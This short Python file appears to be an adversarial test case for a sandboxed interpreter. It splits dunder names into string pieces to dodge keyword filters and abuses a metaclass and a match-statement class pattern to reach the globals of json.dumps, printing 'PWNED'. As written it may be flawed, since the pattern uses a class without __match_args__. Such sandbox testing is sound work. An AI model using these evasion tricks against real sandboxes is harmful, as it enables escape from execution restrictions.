# adversary round 4: 003_match_kwmeta
import json
g = "__glo" + "bals__"
M = type("M", (type,), {"__instance" + "check__": lambda c, o: True})
class P(**{"meta" + "class": M}):
    pass
P2 = M("P2", (), {"__match" + "_args__": (g,)})
match json.dumps:
    case P(x):
        print(type(x), x.get("__name__"))
        print("PWN" + "ED")
